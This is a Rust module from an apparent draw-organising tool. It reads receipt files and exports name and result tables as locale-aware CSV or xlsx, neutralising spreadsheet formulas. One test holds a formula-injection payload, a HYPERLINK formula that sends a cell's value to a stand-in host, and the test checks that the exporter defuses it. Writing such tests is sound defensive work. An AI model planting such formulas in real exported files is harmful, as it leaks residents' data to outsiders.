//! The organiser's private files read back: receipts.jsonl for `slips` and
//! `results` (issue 17).
//!
//! WHY one reader: both commands put names next to codes or results, so both
//! must refuse receipts of another commitment before printing anything. A
//! slip with the code of another pot, or a result list naming the residents
//! of another draw, is worse than no paper at all.

use crate::i18n::Lang;
use crate::{problem, t};
use anyhow::Result;
use potdraw_core::hash::Hash32;
use potdraw_core::model::Receipt;
use potdraw_core::unicode::visible;
use std::path::Path;

/// The largest receipts file we read (as `check`).
const MAX_RECEIPTS_BYTES: u64 = 4 << 30;

/// Every receipt of `path`, each one of the commitment `digest`.
pub fn read_receipts(path: &Path, digest: &Hash32) -> Result<Vec<Receipt>> {
    let bytes = crate::files::read(path, MAX_RECEIPTS_BYTES)?;
    let file = path.display();
    let text = std::str::from_utf8(&bytes).map_err(|_| problem!("receipt-not-utf8", file = file))?;
    let mut receipts = Vec::new();
    for (n, line) in text.lines().enumerate().filter(|(_, l)| !l.trim().is_empty()) {
        let r = potdraw_core::parse::receipt(line.as_bytes()).map_err(|e| {
            crate::problem::parse(&t!(Lang::current(), "errors.receipt-line", file = file, line = n + 1), &e)
        })?;
        if &r.commitment_digest != digest {
            return Err(problem!(
                "receipts-other-commitment",
                file = file,
                expected = hex::encode(digest),
                found = r.doc.commitment_digest,
                title = format!("{:?}", visible(&r.doc.title))
            ));
        }
        receipts.push(r);
    }
    if receipts.is_empty() {
        return Err(problem!("receipts-empty", file = file));
    }
    Ok(receipts)
}

/// The receipts' column names, in the list's order (all receipts of one
/// commit share them).
pub fn column_names(receipts: &[Receipt]) -> Vec<String> {
    receipts.first().map(|r| r.doc.columns.0.iter().map(|(k, _)| k.clone()).collect()).unwrap_or_default()
}

/// `--name-column`, or the first private column; `None` when the list had
/// no column besides id and weight.
pub fn name_column(receipts: &[Receipt], flag: Option<&str>) -> Result<Option<String>> {
    let names = column_names(receipts);
    match flag {
        Some(want) if names.iter().any(|n| n == want) => Ok(Some(want.to_string())),
        Some(want) => Err(problem!("name-column", column = format!("{want:?}"), columns = names.join(", "))),
        None => Ok(names.into_iter().next()),
    }
}

/// How a CSV file for a spreadsheet is written (issue 28).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvStyle {
    /// Comma-separated UTF-8 without a byte order mark, English column names
    /// and words: for scripts, and what Excel in English opens.
    International,
    /// As the user's spreadsheet opens it on a double click: for Dutch, `;`
    /// separated UTF-8 with a byte order mark (so "Daniël" stays "Daniël"),
    /// Dutch column names and role words. English is [`CsvStyle::International`].
    Local(Lang),
}

impl CsvStyle {
    /// `--format csv` in the user's convention, `csv-en` international.
    pub fn of_format(format: &str, lang: Lang) -> CsvStyle {
        match (format, lang.code()) {
            ("csv", "nl") => CsvStyle::Local(lang),
            _ => CsvStyle::International,
        }
    }
}

/// `rows` under `header` as a file for a spreadsheet in `format`: `xlsx`
/// (a workbook in the user's words, [`crate::workbook`]), `csv` (in the
/// user's convention) or `csv-en` ([`CsvStyle::of_format`]). `own` as for
/// [`csv`]; `sheet` names the workbook's sheet.
pub fn spreadsheet(
    format: &str,
    lang: Lang,
    sheet: crate::workbook::Sheet,
    header: &[String],
    own: usize,
    rows: &[Vec<String>],
) -> Result<Vec<u8>> {
    match format {
        "xlsx" => crate::workbook::xlsx(sheet, header, own, rows, lang),
        _ => csv(header, own, rows, CsvStyle::of_format(format, lang)),
    }
}

/// A workbook is a file, never the terminal (it is binary, and it names
/// residents, so it is written 0600 like every such file), and its name
/// ends in `.xlsx`: Excel refuses to open a workbook under another name.
pub fn check_workbook_out(format: &str, out: Option<&Path>) -> Result<()> {
    if format != "xlsx" {
        return Ok(());
    }
    match out {
        None => Err(problem!("xlsx-needs-out")),
        Some(out) if !out.extension().is_some_and(|e| e.eq_ignore_ascii_case("xlsx")) => {
            Err(problem!("xlsx-out-name", file = out.display()))
        }
        Some(_) => Ok(()),
    }
}

/// Column names whose values are words of the tool (a role, a status): said
/// in the user's language in a local CSV.
const WORD_COLUMNS: [&str; 2] = ["role", "status"];
/// The tool's own column names, said in the user's language in a local CSV
/// (the private columns keep the names the organiser's sheet gave them).
const OWN_COLUMNS: [&str; 9] = ["id", "name", "code", "list", "display", "role", "rank", "status", "place"];

/// The table of a file for a spreadsheet in the words of `lang`: the
/// tool's own column names (the first `own` of `header`, when they are
/// ours) and the words of the tool in its word columns (a role, a status)
/// from the catalogue's `csv.column.*` and `csv.value.*`; the organiser's
/// column names and every other cell as they are. `None` keeps the names
/// the documents use (`recipient`, `rank`): for scripts.
///
/// WHY one function: the Dutch CSV and the workbook (`--format xlsx`) must
/// say the same words in the same columns, so a volunteer who opens one
/// and then the other sees one table.
pub fn localise(
    header: &[String],
    own: usize,
    rows: &[Vec<String>],
    lang: Option<Lang>,
) -> (Vec<String>, Vec<Vec<String>>) {
    let word = |kind: &str, w: &str| -> String {
        match lang {
            Some(lang) => lang.t(&format!("csv.{kind}.{w}"), &[]),
            None => w.to_string(),
        }
    };
    let ours = |i: usize, h: &str| i < own && OWN_COLUMNS.contains(&h);
    let words: Vec<bool> =
        header.iter().enumerate().map(|(i, h)| ours(i, h) && WORD_COLUMNS.contains(&h.as_str())).collect();
    let header = header.iter().enumerate().map(|(i, h)| if ours(i, h) { word("column", h) } else { h.clone() });
    let rows = rows.iter().map(|r| {
        r.iter()
            .zip(words.iter().chain(std::iter::repeat(&false)))
            .map(|(c, &is_word)| if is_word && !c.is_empty() { word("value", c) } else { c.clone() })
            .collect()
    });
    (header.collect(), rows.collect())
}

/// A CSV document of `rows` under `header` in `style`, every field quoted as
/// needed, and every field that a spreadsheet would run as a formula written
/// with a leading `'` ([`crate::spreadsheet_safe`]; the file is for a
/// spreadsheet). `own` is how many of the first header names are the tool's
/// own (translated in a local CSV, [`localise`]); the rest are the
/// organiser's columns.
pub fn csv(header: &[String], own: usize, rows: &[Vec<String>], style: CsvStyle) -> Result<Vec<u8>> {
    use crate::spreadsheet_safe::neutralise;
    let (delimiter, bom, lang) = match style {
        CsvStyle::International => (b',', false, None),
        CsvStyle::Local(lang) => (b';', true, Some(lang)),
    };
    let (header, rows) = localise(header, own, rows, lang);
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(b"\xef\xbb\xbf");
    }
    let mut w = csv::WriterBuilder::new().delimiter(delimiter).terminator(csv::Terminator::CRLF).from_writer(out);
    w.write_record(header.iter().map(|c| neutralise(c).into_owned()))?;
    for r in &rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))?;
    }
    w.into_inner().map_err(|e| anyhow::anyhow!("internal error: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_commas_and_quotes() {
        let out = csv(
            &["id".into(), "name".into()],
            2,
            &[vec!["A1".into(), "Mensah, \"Joyce\"".into()]],
            CsvStyle::International,
        )
        .unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "id,name\r\nA1,\"Mensah, \"\"Joyce\"\"\"\r\n");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let link = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")";
        let rows = [vec!["A1".into(), link.into()], vec!["A2".into(), "-Mo-".into()]];
        let out = csv(&["id".into(), "@name".into()], 1, &rows, CsvStyle::International).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "id,'@name\r\nA1,\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&C2,\"\"klik\"\")\"\r\nA2,'-Mo-\r\n"
        );
    }

    /// Issue 28: the Dutch CSV opens right on a double click in Dutch Excel:
    /// `;`, a byte order mark, Dutch column names and role words; the
    /// organiser's own column names and every value as they are.
    #[test]
    fn a_dutch_csv_is_what_dutch_excel_opens() {
        let nl = Lang::from_code("nl").unwrap();
        let header = ["role".into(), "rank".into(), "id".into(), "Naam".into(), "name".into()];
        let rows = [vec!["recipient".into(), "1".into(), "ZUID-003".into(), "Daniël Bos".into(), "x".into()]];
        let out = String::from_utf8(csv(&header, 3, &rows, CsvStyle::Local(nl)).unwrap()).unwrap();
        assert_eq!(out, "\u{feff}rol;nummer;id;Naam;name\r\nontvanger;1;ZUID-003;Daniël Bos;x\r\n");
        assert_eq!(CsvStyle::of_format("csv", nl), CsvStyle::Local(nl));
        assert_eq!(CsvStyle::of_format("csv-en", nl), CsvStyle::International);
    }
}
